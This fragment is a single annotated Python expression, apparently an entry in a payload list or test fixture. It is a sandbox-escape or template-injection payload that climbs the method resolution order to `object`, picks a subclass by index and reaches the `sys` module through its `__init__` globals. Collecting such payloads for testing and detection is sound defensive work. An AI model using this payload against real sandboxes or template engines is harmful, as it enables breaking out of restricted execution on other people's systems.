# why: reaches object through the method resolution order
"".__class__.__mro__[-1].__subclasses__()[140].__init__.__globals__["sys"]
